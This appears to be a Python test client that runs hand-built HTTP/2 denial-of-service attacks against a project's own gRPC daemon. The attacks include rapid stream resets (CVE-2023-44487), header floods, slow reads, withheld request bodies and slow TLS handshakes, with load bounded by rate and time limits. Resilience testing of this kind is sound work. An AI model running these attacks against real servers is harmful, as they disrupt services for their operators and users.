"""A client with a good certificate and bad manners: does argv[1] to the daemon at argv[2] until SIGTERM.

With argv[3], the directory of a `contain pki`, and argv[4], whose certificate to show. HTTP/2 (RFC 9113) by hand, as no library does
what is done here. Its standard error says `attacking` once it has begun, `at work` once it has done argv[6] units, and been hung up on
where that is what shall come of it, and at the end how much it did. Its load is bounded: by argv[5] units a second, by the connections
that it makes, and by 120 seconds."""

import os
import signal
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)
LONGEST = 120
MOST_STREAMS = 1 << 30


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits):
    """An integer of HPACK with a prefix of so many bits (RFC 7541, section 5.1)."""
    if value < (1 << bits) - 1:
        return bytes([value])
    out = bytearray([(1 << bits) - 1])
    value -= (1 << bits) - 1
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def text(value):
    return integer(len(value), 7) + value


def literal(name, value):
    """A field that enters no table (RFC 7541, section 6.2.2)."""
    return b"\0" + text(name) + text(value)


def headers(method, more=b""):
    # POST and https are in the static table, and so is the name of :path.
    return (
        b"\x83\x87\x04"
        + text(b"/netprov.v1.NamespaceService/" + method)
        + literal(b":authority", b"netprov")
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
        + more
    )


LIST = headers(b"ListNamespaces")
# A message of no bytes, uncompressed.
EMPTY = b"\0\0\0\0\0"


class Connection:
    """One connection with TLS and HTTP/2, which forgets what it reads.

    gRPC 1.51 holds a peer to its settings, such as how many streams and how much metadata, from when the peer acknowledges them."""

    def __init__(self, target, context, window=65535, acknowledges=True):
        host, port = target.rsplit(":", 1)
        self.socket = context.wrap_socket(socket.create_connection((host, int(port))), server_hostname=host)
        self.stream = 1
        self.gone = False
        # SETTINGS_INITIAL_WINDOW_SIZE
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
        self.backlog = b""
        if acknowledges:
            # What comes first are the settings, in whole as they are few.
            self.take(self.socket.recv(65536))
            self.backlog = frame(SETTINGS, ACK, 0)
        self.socket.setblocking(False)

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def take(self, received):
        """What came."""

    def pump(self, reads=True):
        """Sends what waits and reads what came, as far as that goes at once."""
        try:
            while self.backlog:
                self.backlog = self.backlog[self.socket.send(self.backlog) :]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.gone = True
        try:
            while reads and not self.gone:
                received = self.socket.recv(65536)
                self.gone = not received
                self.take(received)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.gone = True


class Attack:
    """Some connections, each of which does a unit of something whenever it is its turn."""

    connections = 4
    most = 1 << 30  # units
    window = 65535
    reads = True
    acknowledges = True
    is_hung_up_on = False  # before that it has not done enough

    def __init__(self, target, context):
        self.target = target
        self.context = context
        self.done = 0
        self.lost = 0
        self.pool = [self.connect() for _ in range(self.connections)]

    def connect(self):
        return Connection(self.target, self.context, self.window, self.acknowledges)

    def unit(self, connection):
        raise NotImplementedError

    def has_done(self, enough):
        return self.done >= enough and (self.lost > 0 or not self.is_hung_up_on)

    def turn(self):
        for i, connection in enumerate(self.pool):
            if connection.gone or connection.stream > MOST_STREAMS:
                self.lost += 1
                try:
                    connection = self.pool[i] = self.connect()
                except OSError:
                    continue
            # What does not go out is not heaped up.
            if len(connection.backlog) < 1 << 16 and self.done < self.most:
                self.unit(connection)
                self.done += 1
            connection.pump(self.reads)


class Nothing(Attack):
    """Connections on which nothing is said."""

    def turn(self):
        time.sleep(0.1)


class Resets(Attack):
    """Calls that are given up as soon as they are made (CVE-2023-44487)."""

    def unit(self, connection):
        stream = connection.next_stream()
        connection.backlog += (
            frame(HEADERS, END_HEADERS, stream, LIST) + frame(DATA, END_STREAM, stream, EMPTY) + frame(RST_STREAM, 0, stream, CANCEL)
        )


class Streams(Attack):
    """Calls whose request never comes, as many of them as a connection may have; for each more, the oldest is given up."""

    connections = 16
    MOST = 250  # with more than 256, gRPC ends the connection

    def unit(self, connection):
        stream = connection.next_stream()
        if stream > 2 * self.MOST:
            connection.backlog += frame(RST_STREAM, 0, stream - 2 * self.MOST, CANCEL)
        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST)


class Unacknowledged(Attack):
    """Calls whose request never comes, without end as the daemon's settings are never acknowledged, until it hangs up."""

    connections = 2
    is_hung_up_on = True
    acknowledges = False
    most = 20000  # some 250 MB of the daemon's memory, if it took them all

    def unit(self, connection):
        connection.backlog += frame(HEADERS, END_HEADERS, connection.next_stream(), LIST)


class Headers(Attack):
    """Calls with 64 KiB of metadata, for each of which the daemon ends the connection: in truth, handshakes without end."""

    LONG = LIST + b"".join(literal(b"x-%d" % i, b"a" * 1000) for i in range(64))

    def unit(self, connection):
        stream = connection.next_stream()
        parts = [self.LONG[i : i + 16384] for i in range(0, len(self.LONG), 16384)]
        out = frame(HEADERS, END_STREAM, stream, parts[0])
        for part in parts[1:-1]:
            out += frame(CONTINUATION, 0, stream, part)
        connection.backlog += out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])


class UnboundHeaders(Headers):
    """The same where the daemon's settings are never acknowledged, so that it reads all of it, call after call."""

    acknowledges = False


class SlowReads(Attack):
    """Calls whose answers are not taken."""

    window = 0
    reads = False

    def unit(self, connection):
        stream = connection.next_stream()
        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST) + frame(DATA, END_STREAM, stream, EMPTY)


class Bodies(Attack):
    """Calls whose requests are as long as they may be, and lack their last byte."""

    connections = 8
    LENGTH = 1 << 20  # of a message, as the daemon takes it
    MOST = 256  # on a connection, as it allows

    def connect(self):
        return Sender(self.target, self.context)

    def unit(self, connection):
        if connection.stream > 2 * self.MOST:
            return connection.feed()
        stream = connection.next_stream()
        connection.backlog += frame(HEADERS, END_HEADERS, stream, LIST)
        # Five bytes of gRPC's own stand before the message.
        connection.owes[stream] = [b"\0" + struct.pack(">I", self.LENGTH), 5 + self.LENGTH - 1]
        connection.feed()


class Sender(Connection):
    """One that sends as much as it is let to (RFC 9113, section 5.2)."""

    CHUNK = bytes(16384)

    def __init__(self, target, context):
        self.owes = {}  # by stream: its first bytes, and how many there are to send with them
        self.initial = 65535
        self.room = 65535  # of the connection
        self.rooms = {}  # of each stream, more than the initial one
        self.heard = b""
        self.backlog = b""
        super().__init__(target, context)

    def feed(self):
        for stream, owed in list(self.owes.items()):
            while owed[1] > 0 and len(self.backlog) < 1 << 16:
                size = min(owed[1], len(self.CHUNK), self.room, self.initial + self.rooms.get(stream, 0))
                if size <= 0:
                    break
                part = (owed[0] + self.CHUNK)[:size]
                owed[0] = owed[0][size:]
                owed[1] -= size
                self.room -= size
                self.rooms[stream] = self.rooms.get(stream, 0) - size
                self.backlog += frame(DATA, 0, stream, part)
            if owed[1] == 0:
                del self.owes[stream]

    def take(self, received):
        self.heard += received
        while len(self.heard) >= 9:
            length = int.from_bytes(self.heard[:3], "big")
            if len(self.heard) < 9 + length:
                return
            kind, flags = self.heard[3], self.heard[4]
            stream = int.from_bytes(self.heard[5:9], "big") & 0x7FFFFFFF
            payload = self.heard[9 : 9 + length]
            self.heard = self.heard[9 + length :]
            if kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream == 0:
                    self.room += more
                else:
                    self.rooms[stream] = self.rooms.get(stream, 0) + more
            elif kind == SETTINGS and not flags & ACK:
                for i in range(0, length, 6):
                    number, value = struct.unpack(">HI", payload[i : i + 6])
                    if number == 4:
                        self.initial = value
            elif kind == PING and not flags & ACK:
                self.backlog += frame(PING, ACK, 0, payload)
            elif kind == RST_STREAM:
                self.owes.pop(stream, None)


class Handshakes:
    """Connections that say a byte of their TLS handshake at a time."""

    HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    MOST = 100

    def __init__(self, target, context):
        host, port = target.rsplit(":", 1)
        self.address = (host, int(port))
        self.pool = []
        self.done = 0
        self.lost = 0

    def has_done(self, enough):
        return self.done >= enough

    def turn(self):
        if len(self.pool) < self.MOST:
            try:
                self.pool.append([socket.create_connection(self.address), 0])
            except OSError:
                self.lost += 1
            return
        entry = self.pool.pop(0)
        try:
            entry[0].send(self.HELLO[entry[1] : entry[1] + 1])
            entry[1] = min(entry[1] + 1, len(self.HELLO) - 1)
            self.pool.append(entry)
            self.done += 1
        except OSError:
            entry[0].close()
            self.lost += 1


ATTACKS = {
    "none": Nothing,
    "resets": Resets,
    "streams": Streams,
    "unacknowledged": Unacknowledged,
    "headers": Headers,
    "unbound_headers": UnboundHeaders,
    "slow_reads": SlowReads,
    "bodies": Bodies,
    "handshakes": Handshakes,
}


LATE = 0.05  # seconds


class Ended(Exception):
    """SIGTERM, whatever is waited for."""


def end(*_):
    raise Ended


def run(attack, rate, enough):
    begun = paced_from = time.monotonic()
    turns = 0
    is_at_work = False
    while time.monotonic() - begun < LONGEST:
        attack.turn()
        turns += 1
        if not is_at_work and attack.has_done(enough):
            is_at_work = True
            print("at work", file=sys.stderr, flush=True)
        if rate == 0:
            continue
        units = turns * getattr(attack, "connections", 1)
        ahead = units / rate - (time.monotonic() - paced_from)
        # What it could not do, for want of a processor, it does not make up for.
        paced_from -= min(0, ahead + LATE)
        if ahead > 0:
            time.sleep(ahead)


def main():
    what, target, pki, name, rate, enough = sys.argv[1:7]
    context = ssl.create_default_context(cafile=f"{pki}/ca.pem")
    context.load_cert_chain(f"{pki}/{name}.pem", f"{pki}/{name}-key.pem")
    context.set_alpn_protocols(["h2"])
    attack = ATTACKS[what](target, context)
    # From here on with what nobody else wants of the processor: that of another machine would not be this one's.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    begun = time.monotonic()
    try:
        signal.signal(signal.SIGTERM, end)
        print("attacking", file=sys.stderr, flush=True)
        run(attack, float(rate), int(enough))
    except Ended:
        pass
    seconds = time.monotonic() - begun
    print(f"attack={what} units={attack.done} connections_lost={attack.lost} seconds={seconds:.1f}", file=sys.stderr)


if __name__ == "__main__":
    main()
